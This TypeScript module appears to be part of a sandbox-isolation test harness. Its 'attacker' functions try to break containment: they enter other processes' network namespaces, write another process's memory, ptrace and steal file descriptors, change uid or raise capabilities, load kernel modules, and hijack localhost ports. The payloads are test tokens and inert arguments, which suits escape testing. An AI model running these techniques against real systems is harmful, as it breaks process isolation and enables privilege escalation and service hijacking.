// The attacker's ways to other processes and namespaces, and to rights that it was not given.
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { closeSync, openSync, readFileSync, readlinkSync } from 'node:fs'
import net from 'node:net'
import { addressOf, call, cString, nameOf } from '../libc.ts'
import type { Context } from './context.ts'
import { bytesOfText, codeOf, tcp } from './network.ts'
import { pidsBelow } from './files.ts'
import { vector } from './kernel.ts'

/** Enters the network namespace of every process that a /proc shows, and connects from there. Changes this process for good. */
export async function enterNetworks(
  { procs, to }: { readonly procs: readonly string[]; readonly to: string },
  context: Context,
): Promise<string> {
  const own = readlinkSync('/proc/thread-self/ns/net')
  const tried = new Set([own])
  const said: string[] = []
  for (const path of procs.flatMap((proc) => pidsBelow(proc).map((pid) => `${proc}/${pid}/ns/net`))) {
    const entered = enter(path, tried)
    if (entered === undefined) continue
    said.push(entered)
    if (entered === '0') said.push(await tcp({ to }, context))
  }
  return said.length === 0 ? 'no namespace but its own to be seen' : [...new Set(said)].join('; ')
}

function enter(path: string, tried: Set<string>): string | undefined {
  try {
    const name = readlinkSync(path)
    if (tried.has(name)) return undefined
    tried.add(name)
    const fd = openSync(path, 'r')
    const result = call('setns', fd, 0x40000000)
    closeSync(fd)
    return nameOf(result)
  } catch (error) {
    return codeOf(error)
  }
}

export function kill({ pid, signal }: { readonly pid: string; readonly signal: number }): string {
  return nameOf(call('kill', Number(pid), signal))
}

/** Writes into another process' memory as a debugger does. */
export function writeMemory(
  { pid, address, by }: { readonly pid: string; readonly address: string; readonly by: 'call' | 'file' },
  context: Context,
): string {
  const text = Buffer.from(context.token)
  if (by === 'file') return writeMemoryFile(pid, BigInt(address), text)
  const remote = Buffer.alloc(16)
  remote.writeBigUInt64LE(BigInt(address), 0)
  remote.writeBigUInt64LE(BigInt(text.length), 8)
  return nameOf(call('process_vm_writev', Number(pid), vector(text), 1, remote, 1, 0))
}

function writeMemoryFile(pid: string, address: bigint, text: Buffer): string {
  try {
    const fd = openSync(`/proc/${pid}/mem`, 'r+')
    const result = pwrite(fd, text, address)
    closeSync(fd)
    return nameOf(result)
  } catch (error) {
    return codeOf(error)
  }
}

/** Node takes no position beyond 2^53; addresses are below. */
function pwrite(fd: number, text: Buffer, address: bigint): number {
  return call('pwrite64', fd, addressOf(text), text.length, address)
}

/** Becomes the tracer of a process without stopping it, and stays so until the judge has looked. */
export function trace({ pid }: { readonly pid: string }, context: Context): string {
  const [seize, detach] = [0x4206, 17]
  const result = call('ptrace', seize, Number(pid), 0, 0)
  if (result >= 0) context.hold(() => call('ptrace', detach, Number(pid), 0, 0))
  return nameOf(result)
}

/** Takes copies of a process' descriptors and says its word on each that is a socket; silently where a word would break who plays the outside. */
export function stealDescriptors({ pid, silently }: { readonly pid: string; readonly silently?: boolean }, context: Context): string {
  const process = call('pidfd_open', Number(pid), 0)
  if (process < 0) return `pidfd_open: ${nameOf(process)}`
  const text = Buffer.from(context.token)
  const results = Array.from({ length: 64 }, (_, fd) => call('pidfd_getfd', process, fd, 0))
  for (const fd of results.filter((result) => result >= 0)) {
    // Only where it fits: a pipe of somebody else's must not be broken by a word.
    if (!silently && readlinkSync(`/proc/self/fd/${fd}`).startsWith('socket:')) call('sendto', fd, text, text.length, 0x40, 0, 0)
    call('close', fd)
  }
  call('close', process)
  const taken = results.filter((result) => result >= 0).length
  return taken > 0 ? `took ${taken} descriptors` : `pidfd_getfd: ${[...new Set(results.map(nameOf))].join(', ')}`
}

/** Changes who this process is for good, then goes on. */
export function become({ uid, gid }: { readonly uid?: number; readonly gid?: number }): string {
  try {
    if (gid !== undefined) process.setgid?.(gid)
    if (uid !== undefined) process.setuid?.(uid)
    return `is ${process.getuid?.()}:${process.getgid?.()}`
  } catch (error) {
    return codeOf(error)
  }
}

/** Asks for every capability there is. */
export function raiseCapabilities(_attack: object): string {
  const header = Buffer.alloc(8)
  header.writeUInt32LE(0x20080522, 0)
  return nameOf(call('capset', header, Buffer.alloc(24, 0xff)))
}

/** System calls by which a machine's owner changes it; the arguments are such that nothing happens where they are allowed. */
export function askKernel({ to }: { readonly to: 'load a module' | 'load a kernel' | 'rename the machine' }, context: Context): string {
  switch (to) {
    case 'load a module':
      // No ELF: ENOEXEC where it is allowed.
      return nameOf(call('init_module', bytesOfText('no module'), 9, cString('')))
    case 'load a kernel':
      // No such flag: EINVAL where it is allowed.
      return nameOf(call('kexec_load', 0, 0, 0, 0x7fff))
    case 'rename the machine':
      return nameOf(call('sethostname', Buffer.from(context.token), context.token.length))
  }
}

/** In namespaces of its own making, where it is root of everything but the outside: as `unshare` does it, then a shell's lines. */
export async function inOwnNamespaces({ flags, script }: { readonly flags: string; readonly script: string }): Promise<string> {
  const child = spawn('unshare', [...flags.split(' '), 'sh', '-c', script], {
    stdio: ['ignore', 'pipe', 'pipe'],
    timeout: 3000,
    killSignal: 'SIGKILL',
  })
  let said = ''
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (said = (said + chunk.toString()).slice(-300)))
  const [code] = await once(child, 'close')
  return `exit code ${code}${said === '' ? '' : `: ${said.trim().split('\n').at(-1)}`}`
}

/** Where the sidecar may listen in this namespace: all listeners of all families. */
export function listeningPorts(): readonly number[] {
  const rows = ['/proc/net/tcp', '/proc/net/tcp6'].flatMap((path) => {
    try {
      return readFileSync(path, 'utf8').split('\n').slice(1)
    } catch {
      // A kernel without IPv6 has no such file.
      return []
    }
  })
  const listening = rows.filter((row) => row.trim().split(/\s+/)[3] === '0A')
  return [...new Set(listening.map((row) => Number.parseInt(row.trim().split(/\s+/)[1]?.split(':')[1] ?? '0', 16)))]
}

/** Straight to every port that something in this namespace listens on, as if it were a destination. */
export async function connectToListeners(_attack: object, context: Context): Promise<string> {
  const ports = listeningPorts()
  const said = await Promise.all(
    ports
      .flatMap((port) => [`127.0.0.1:${port}`, `[::1]:${port}`])
      .map((to) => tcp({ to, send: [`GET /${context.token} HTTP/1.1\r\nHost: ${context.token}\r\n\r\n`] }, context)),
  )
  return said.length === 0 ? 'nobody listens' : said.join('; ')
}

/** Binds, beside the sidecar's own sockets, every port and address that something listens on, and answers what was meant for it. */
export async function takeOverPorts({ to }: { readonly to: string }, context: Context): Promise<string> {
  const servers = await Promise.all(
    listeningPorts().flatMap((port) => ['127.0.0.1', '127.0.0.2', '::1'].map((host) => listenOn(host, port))),
  )
  const open = servers.filter((server) => server !== undefined)
  const said = await tcp({ to }, context)
  for (const server of open) server.close()
  return `took ${open.length} of ${servers.length}; ${said}`
}

function listenOn(host: string, port: number): Promise<net.Server | undefined> {
  return new Promise((resolve) => {
    const server = net.createServer((socket) => socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n'))
    server.once('error', () => resolve(undefined))
    server.listen({ host, port }, () => resolve(server))
  })
}
